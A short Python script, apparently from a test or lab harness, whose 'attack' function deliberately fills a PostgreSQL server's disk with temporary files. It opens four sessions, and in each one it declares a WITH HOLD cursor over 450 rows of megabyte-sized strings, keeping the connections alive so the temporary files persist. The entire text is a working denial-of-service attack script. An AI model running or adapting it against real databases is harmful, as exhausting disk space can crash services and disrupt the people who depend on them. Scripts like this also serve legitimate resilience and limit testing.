"""Has PostgreSQL fill the disk with temporary files: cursors that are kept, in four sessions."""

import os

import psycopg
from kit import say

KEPT = []
VALUE = "repeat(repeat('x', 10000), 100)"
CURSOR = f"DECLARE kept CURSOR WITH HOLD FOR SELECT {VALUE} FROM generate_series(1, 450)"


def attack() -> None:
    for _ in range(4):
        KEPT.append(psycopg.connect(os.environ["DATABASE_URL"], autocommit=True))
        KEPT[-1].execute(CURSOR.encode())
    say(f"{len(KEPT)} sessions")
